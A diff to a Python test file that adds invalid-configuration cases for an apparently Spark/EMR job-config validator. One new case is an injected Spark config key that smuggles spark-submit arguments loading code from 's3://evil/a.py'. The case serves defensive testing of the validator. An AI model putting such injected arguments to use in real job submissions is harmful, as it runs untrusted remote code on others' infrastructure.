@@ -164,6 +164,8 @@ FAULTY: list[tuple[dict[str, Any], str]] = [
         "emr.serverless.maximum_vcpu: must be at least 10 for the job of lake",
     ),
     ({"emr": {"release_label": "emr-spark-8.0"}}, r"emr.release_label: must match .*; got 'emr-spark-8.0'"),
+    # An attack: it would be more arguments of spark-submit.
+    (job(spark={"spark.a=1 --py-files s3://evil/a.py --conf spark.b": "1"}), r"jobs.0.spark.* must match .*spark"),
     ({"region": "eu-wst-1"}, "region: must be a region of AWS; is eu-west-1 meant.; got 'eu-wst-1'"),
     ({"region": "xx-qqq-1"}, "region: must be a region of AWS, as eu-west-1; got 'xx-qqq-1'"),
     ({"state_region": "eu-weast-1"}, "state_region: must be a region of AWS; is eu-west-1 meant"),
